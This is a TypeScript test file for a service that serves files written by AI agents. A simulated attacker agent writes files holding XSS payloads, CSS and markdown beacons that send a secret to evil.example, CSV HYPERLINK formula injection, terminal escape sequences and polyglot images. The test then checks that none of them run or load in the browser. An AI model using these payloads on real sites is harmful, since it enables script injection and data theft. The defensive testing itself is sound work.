import { beforeAll, describe, expect, it } from "vitest";
import { worksOnFiles } from "../../simulated/providers/coding";
import { filePath } from "../../src/protocol/paths";
import { GIF, PDF, PNG } from "../api/sessions/attachments";
import { blockedLoads } from "./support/browser-loads";
import { runningService } from "./support/running-service";
import { Watcher } from "./support/watcher";

/**
 * An agent writes hostile files, and a browser requests them from the service. Nothing in them may
 * run in the service's origin, and no page may load one as a script, a style or a frame.
 */

const SCRIPT = "alert(document.domain)";
const HTML = `<!doctype html><script>${SCRIPT}</script>`;
const latin1 = (text: string): Buffer => Buffer.from(text, "latin1");

/** `shown`: the content type with `inline=1`; `null` if the file stays a download. */
type Hostile = { name: string; bytes: Buffer; shown: string | null };
const text = (name: string, content: string): Hostile => ({
  name,
  bytes: Buffer.from(content),
  shown: "text/plain; charset=utf-8",
});
const saved = (name: string, bytes: Buffer): Hostile => ({ name, bytes, shown: null });

const HOSTILE: Hostile[] = [
  text("E1 page.html", HTML),
  text("E1 image.html", "<img src=x onerror=alert(1)>"),
  text("E1 frame.html", `<iframe srcdoc="<script>${SCRIPT}</script>"></iframe>`),
  text("E1 style.css", '@import "https://evil.example/?q=SECRET";'),
  text("E1 form.html", '<form action="https://evil.example"><button>go</button></form>'),
  text("E1 refresh.html", '<meta http-equiv="refresh" content="0;url=https://evil.example">'),
  text("E1 <img src=x onerror=alert(1)>.txt", "the name is the attack"),
  text("E2 links.md", "[x](javascript:alert(1)) [y](data:text/html,<script>alert(1)</script>)"),
  text("E3 image.md", "![](https://evil.example/?q=SECRET)"),
  text("E4 nested.md", `${">".repeat(100_000)} deep`),
  text(
    "E5 diagram.md",
    "```html\n<script>alert(1)</script>\n```\n$\\href{javascript:alert(1)}{x}$",
  ),
  saved("E7 terminal.txt", latin1("\x1b]8;;https://evil.example\x07click\x1b]8;;\x07\x1b[2J")),
  text("E8 formulas.csv", '=HYPERLINK("https://evil.example?q="&A1)\n@SUM(1)\n+1\n-1'),
  saved("E10 device.tar", Buffer.concat([latin1("evil\0"), Buffer.alloc(507)])),
  saved("E11 bomb.zip", latin1("PK\x03\x04\x14\x00\x00\x00\x08\x00")),
  text(
    "E14 page.xhtml",
    `<html xmlns="http://www.w3.org/1999/xhtml"><script>${SCRIPT}</script></html>`,
  ),
  text("E14 image.svg", `<svg xmlns="http://www.w3.org/2000/svg" onload="${SCRIPT}"/>`),
  text("E14 style.xsl", '<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform"/>'),
  saved("E14 program.pdf", PDF),
  text("E14 script.js", SCRIPT),
  text("E14 worker.mjs", 'self.addEventListener("fetch", () => {});'),
  text("E14 data.json", 'callback({"secret": 1})'),
  saved("E14 module.wasm", latin1("\0asm\x01\0\0\0")),
  text("E14 archive.mhtml", `MIME-Version: 1.0\nContent-Type: text/html\n\n${HTML}`),
  text("E14 script.png", SCRIPT),
  text("E14 page.gif", HTML),
  saved("E14 utf-16.html", Buffer.concat([latin1("\xff\xfe"), Buffer.from(HTML, "utf16le")])),
  text("E14 utf-7.html", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
  text("E14 marked.html", `\ufeff${HTML}`),
  saved("E14 latin-1.html", latin1(`\xe9${HTML}`)),
  saved("E14 hidden.html", latin1(`\0${HTML}`)),
  text("E14 empty.html", ""),
  { name: "E14 script.gif", bytes: latin1(`GIF89a=1;${SCRIPT}`), shown: "image/gif" },
  { name: "E14 image.gif", bytes: GIF, shown: "image/gif" },
  { name: "E14 trailer.png", bytes: Buffer.concat([PNG, Buffer.from(HTML)]), shown: "image/png" },
  { name: "E14 page.jpg", bytes: latin1(`\xff\xd8\xff\xe0${HTML}`), shown: "image/jpeg" },
  { name: "E14 named.html", bytes: PNG, shown: "image/png" },
  { name: "E14 page.webp", bytes: latin1(`RIFF\x10\0\0\0WEBP${HTML}`), shown: "image/webp" },
];

const commandOf = ({ name, bytes }: Hostile): string =>
  `printf %s '${bytes.toString("base64")}' | base64 -d > '${name}'`;
/** Files per shell command, and the size from which a file has a call of its own. */
const [BATCH, LARGE] = [8, 10_000];
const small = HOSTILE.filter(({ bytes }) => bytes.length < LARGE);
const commands = Array.from({ length: Math.ceil(small.length / BATCH) }, (_, batch) =>
  small
    .slice(batch * BATCH, (batch + 1) * BATCH)
    .map(commandOf)
    .join("\n"),
);
const large = HOSTILE.filter(({ bytes }) => bytes.length >= LARGE);

type ToolCall = [string, Record<string, unknown>];
const stack = runningService({
  attacker: worksOnFiles({
    last: [
      ...commands.map((command) => ["run_command", { command }] as ToolCall),
      ...large.map(
        ({ name, bytes }) => ["write_file", { path: name, content: bytes.toString() }] as ToolCall,
      ),
    ],
    answer: "See /workspace.",
  }),
});
let session = "";

beforeAll(async () => {
  const { session_id } = await stack.client.start({
    baseUrl: stack.providers.baseUrl,
    agents: [{ id: "attacker", model: "attacker" }],
    question: "Attack.",
    backend: { enable_mcp_command_line: true },
  });
  session = session_id;
  await new Watcher(`${stack.service.url}/api/sessions/${session}/turns/1/events`).ended;
});

const get = (name: string, inline: boolean) =>
  fetch(`${stack.service.url}${filePath({ sessionId: session, turn: 1 }, name, { inline })}`);

const NO_EFFECT = {
  "as a script of this origin": true,
  "as a style of this origin": true,
  "in a frame": true,
  "as any resource of another origin": true,
  "as a document with the service's origin": true,
};

describe("E14 a hostile file has no effect, as a download and with inline=1:", () => {
  it.each(HOSTILE)("$name", async ({ name, bytes, shown }) => {
    for (const inline of [false, true]) {
      const response = await get(name, inline);
      const { headers } = response;
      const type = (inline ? shown : null) ?? "application/octet-stream";
      const disposition =
        inline && shown !== null ? /^inline; filename="/ : /^attachment; filename="/;
      expect([response.status, headers.get("content-type")]).toEqual([200, type]);
      expect(headers.get("content-disposition")).toMatch(disposition);
      expect(blockedLoads(headers)).toEqual(NO_EFFECT);
      expect(Buffer.from(await response.arrayBuffer()).equals(bytes)).toBe(true);
    }
  });
});

it("every file is in the list, with the type that its name implies", async () => {
  const list = await fetch(`${stack.service.url}/api/sessions/${session}/turns/1/files`);
  const { data } = (await list.json()) as { data: { path: string; content_type: string }[] };
  const types = new Map(data.map(({ path, content_type }) => [path, content_type]));
  expect([...types.keys()].sort()).toEqual(HOSTILE.map(({ name }) => name).sort());
  expect(types.get("E1 page.html")).toBe("text/html");
  expect(types.get("E14 program.pdf")).toBe("application/pdf");
});

it("another value of inline is refused", async () => {
  const address = `${filePath({ sessionId: session, turn: 1 }, "E14 script.js")}?inline=yes`;
  const response = await fetch(`${stack.service.url}${address}`);
  expect([response.status, ((await response.json()) as { code: string }).code]).toEqual([
    400,
    "bad_query",
  ]);
});
